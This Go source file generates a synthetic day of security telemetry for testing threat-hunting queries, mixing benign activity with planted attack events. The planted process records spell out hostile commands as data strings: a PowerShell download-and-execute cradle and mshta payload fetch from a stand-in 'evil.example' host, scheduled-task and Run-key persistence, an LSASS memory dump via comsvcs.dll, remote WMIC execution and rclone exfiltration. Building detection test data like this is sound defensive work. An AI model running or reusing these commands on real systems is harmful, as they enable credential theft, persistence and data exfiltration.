package events

import (
	"fmt"
	"math/rand/v2"
	"time"
)

// Event is one row for a table of the schema, values in Columns order.
type Event struct {
	Table  string
	Values []any
}

// demo builds events relative to now, all inside the past day.
type demo struct {
	now time.Time
	rnd *rand.Rand
	out []Event
}

func (d *demo) at(minutesAgo int) time.Time {
	return d.now.Add(-time.Duration(minutesAgo) * time.Minute).Truncate(time.Microsecond)
}

func (d *demo) add(table string, vals ...any) { d.out = append(d.out, Event{table, vals}) }

func (d *demo) auth(ago int, host, user, ip, country, app, result string) {
	d.add("auth_events", d.at(ago), host, user, ip, country, app, "network", "password", result)
}

func (d *demo) proc(ago int, host, user, name, cmd, parent string) {
	d.add("process_events", d.at(ago), host, user, name, `C:\Windows\System32\`+name, cmd, parent, "")
}

func (d *demo) net(ago int, host, dst string, port int, domain string, out, in int64) {
	d.add("network_events", d.at(ago), host, "10.0.1."+host[len(host)-1:], dst, port, domain, "tcp", "outbound", out, in, "")
}

func (d *demo) file(ago int, host, user, action, path, name, ext string) {
	d.add("file_events", d.at(ago), host, user, action, path, name, ext, int64(1000+d.rnd.IntN(90000)), "explorer.exe")
}

func (d *demo) mail(ago int, dir, sender, rcpt, subject, attachment, attType string) {
	d.add("email_events", d.at(ago), fmt.Sprintf("<%d.%d@mail>", ago, len(d.out)), dir, sender, domainOf(sender),
		rcpt, domainOf(rcpt), subject, attachment, attType, "", "clean")
}

func (d *demo) dns(ago int, host, query, rcode string) {
	d.add("dns_events", d.at(ago), host, "10.0.1."+host[len(host)-1:], query, "A", rcode, "")
}

func domainOf(addr string) string {
	for i := len(addr) - 1; i >= 0; i-- {
		if addr[i] == '@' {
			return addr[i+1:]
		}
	}
	return ""
}

var (
	demoUsers = []string{"alice", "bob", "carol", "dave", "erin"}
	demoHosts = []string{"ws-01", "ws-02", "ws-03", "ws-04", "ws-05"}
)

// Demo returns a realistic day of events ending at now: benign activity
// of five users on five workstations (noise scaled by n, at least 1) with
// one planted instance of every behaviour the query library hunts for,
// and benign near misses beside them.
func Demo(now time.Time, n int) []Event {
	if n < 1 {
		n = 1
	}
	d := &demo{now: now.UTC(), rnd: rand.New(rand.NewPCG(42, uint64(n)))}
	for i := 0; i < n; i++ {
		d.benign()
	}
	d.malicious()
	return d.out
}

// benign is one round of ordinary activity, with near misses of each hunt.
func (d *demo) benign() {
	r := d.rnd
	for i, u := range demoUsers {
		h := demoHosts[i]
		ip := fmt.Sprintf("203.0.113.%d", 10+i)
		for k := 0; k < 6; k++ {
			d.auth(r.IntN(1400)+5, h, u, ip, "US", []string{"vpn", "o365", "ssh"}[k%3], "success")
		}
		d.auth(r.IntN(1400)+5, h, u, ip, "US", "vpn", "failure")
		d.auth(r.IntN(1400)+5, h, u, ip, "DE", "vpn", "failure") // a foreign failure is not a logon
		mailbox := u + "@examplecorp.com"
		d.mail(r.IntN(1400)+5, "inbound", "billing@partner.example", mailbox, "Invoice", "invoice.pdf", "pdf")
		d.mail(r.IntN(1400)+5, "inbound", "colleague@examplecorp.com", mailbox, "Notes", "notes.docx", "docx")
		d.mail(r.IntN(1400)+5, "outbound", mailbox, "team@examplecorp.com", "FW: minutes", "", "")
		d.mail(r.IntN(1400)+5, "outbound", mailbox, "contact@partner.example", "FW: quote", "", "")
		d.proc(r.IntN(1400)+5, h, u, "chrome.exe", "chrome.exe --type=renderer", "explorer.exe")
		d.proc(r.IntN(1400)+5, h, u, "splwow64.exe", "splwow64.exe 8192", "winword.exe")
		d.proc(r.IntN(1400)+5, h, u, "powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\it\\inventory.ps1", "explorer.exe")
		d.proc(r.IntN(1400)+5, h, u, "schtasks.exe", "schtasks.exe /query /fo LIST", "cmd.exe")
		d.proc(r.IntN(1400)+5, h, u, "reg.exe", `reg.exe query HKLM\Software\Microsoft\Windows\CurrentVersion\Run`, "cmd.exe")
		d.proc(r.IntN(1400)+5, h, u, "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", "explorer.exe")
		d.proc(r.IntN(1400)+5, h, u, "certutil.exe", "certutil.exe -hashfile setup.msi SHA256", "cmd.exe")
		d.proc(r.IntN(1400)+5, h, u, "wmic.exe", "wmic.exe os get caption", "cmd.exe")
		d.proc(r.IntN(1400)+5, h, u, "7z.exe", "7z.exe a backup.7z C:\\Users\\"+u+"\\Documents", "explorer.exe")
		d.proc(r.IntN(1400)+5, h, u, "robocopy.exe", "robocopy.exe C:\\data \\\\nas\\home /mir", "cmd.exe")
		d.proc(r.IntN(1400)+5, h, "SYSTEM", "lsass.exe", `C:\Windows\system32\lsass.exe`, "wininit.exe")
		for k := 0; k < 20; k++ {
			d.file(r.IntN(1400)+5, h, u, "read", `C:\Users\`+u+`\Documents\report.docx`, "report.docx", "docx")
		}
		d.file(r.IntN(1400)+5, h, u, "read", `C:\Users\`+u+`\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\desktop.ini`, "desktop.ini", "ini")
		d.file(r.IntN(1400)+5, h, u, "create", `C:\Users\`+u+`\Documents\plan.xlsx`, "plan.xlsx", "xlsx")
		for k := 0; k < 15; k++ {
			d.net(r.IntN(1400)+5, h, fmt.Sprintf("142.250.%d.%d", r.IntN(255), r.IntN(255)), 443, "www.google.com", int64(800+r.IntN(3000)), int64(20000+r.IntN(900000)))
			d.dns(r.IntN(1400)+5, h, []string{"www.google.com", "outlook.office365.com", "clientservices.googleapis.com", "a1b2c3d4e5.cdn.example-content-delivery.net"}[k%4], "NOERROR")
		}
		d.dns(r.IntN(1400)+5, h, "wpad.examplecorp.local", "NXDOMAIN")
		d.net(r.IntN(1400)+5, h, "13.107.42.14", 443, "onedrive.live.com", 6<<20, 4000)
	}
	// The backup server sends much, often, but inside the network.
	for k := 0; k < 60; k++ {
		d.net(r.IntN(1400)+5, "srv-bk1", "10.0.0.50", 445, "", 8<<20, 1000)
	}
	for _, t := range []string{"10.0.2.21", "10.0.2.22"} {
		d.net(r.IntN(1400)+5, "jump-1", t, 3389, "", 5000, 90000)
	}
}

// malicious plants one instance of every hunted behaviour.
func (d *demo) malicious() {
	d.mail(300, "inbound", "ap@vendor-payments.example", "bob@examplecorp.com", "Overdue invoice", "invoice_0932.iso", "iso")
	d.mail(280, "inbound", "it@examplecorp-support.com", "alice@examplecorp.com", "Password expiry", "", "")
	d.mail(279, "inbound", "it@examplecorp-support.com", "dave@examplecorp.com", "Password expiry", "", "")
	d.auth(260, "vpn-gw", "carol", "91.240.118.5", "RU", "vpn", "success")
	d.proc(250, "ws-02", "bob", "powershell.exe", "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')", "winword.exe")
	d.proc(240, "ws-03", "carol", "powershell.exe", "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "explorer.exe")
	d.proc(230, "ws-04", "dave", "mshta.exe", "mshta.exe http://evil.example/payload.hta", "explorer.exe")
	d.proc(220, "ws-01", "alice", "schtasks.exe", `schtasks.exe /create /sc minute /mo 15 /tn Updater /tr C:\Users\Public\upd.exe`, "cmd.exe")
	d.proc(210, "ws-05", "erin", "reg.exe", `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\upd.exe`, "cmd.exe")
	d.file(200, "ws-03", "carol", "create", `C:\Users\carol\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk`, "update.lnk", "lnk")
	for k := 0; k < 25; k++ {
		d.auth(190-k, "dc-01", "svc-backup", "198.51.100.77", "US", "ssh", "failure")
	}
	for k, u := range []string{"frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar", "peggy"} {
		d.auth(180-k, "dc-01", u, "198.51.100.23", "US", "o365", "failure")
	}
	d.proc(170, "ws-02", "bob", "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, "cmd.exe")
	d.proc(160, "srv-db1", "admin", "cmd.exe", "cmd.exe /c whoami", "psexesvc.exe")
	for k := 0; k < 7; k++ {
		d.net(150-k, "ws-04", fmt.Sprintf("10.0.2.%d", 30+k), 3389, "", 4000, 50000)
	}
	d.proc(140, "ws-01", "alice", "wmic.exe", `wmic.exe /node:10.0.2.20 process call create "cmd.exe /c c:\temp\x.bat"`, "cmd.exe")
	d.proc(130, "ws-05", "erin", "7z.exe", `7z.exe a -pS3cret -mhe=on C:\temp\out.7z C:\Users\erin\Documents`, "cmd.exe")
	for k := 0; k < 300; k++ {
		d.file(120, "ws-03", "dave", "read", fmt.Sprintf(`\\fs-01\finance\q%d.xlsx`, k), fmt.Sprintf("q%d.xlsx", k), "xlsx")
	}
	for k := 0; k < 12; k++ {
		d.mail(110-k, "outbound", "erin@examplecorp.com", "erin.private@gmail.com", "FW: board pack", "", "")
	}
	for k := 0; k < 80; k++ {
		d.net(100+k, "ws-05", "185.220.101.45", 443, "", 300, 1200)
	}
	for k := 0; k < 60; k++ {
		d.dns(90, "ws-04", fmt.Sprintf("x%07dqz.example", d.rnd.IntN(9999999)), "NXDOMAIN")
	}
	d.dns(80, "ws-02", "dGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw.t1.tunnel-badexample.net", "NOERROR")
	d.net(70, "ws-01", "45.77.10.9", 443, "", 600<<20, 9000)
	d.net(60, "ws-03", "31.216.145.5", 443, "mega.nz", 50<<20, 4000)
	d.proc(50, "ws-05", "erin", "rclone.exe", `rclone.exe copy C:\data remote:exfil --transfers 8`, "cmd.exe")
}
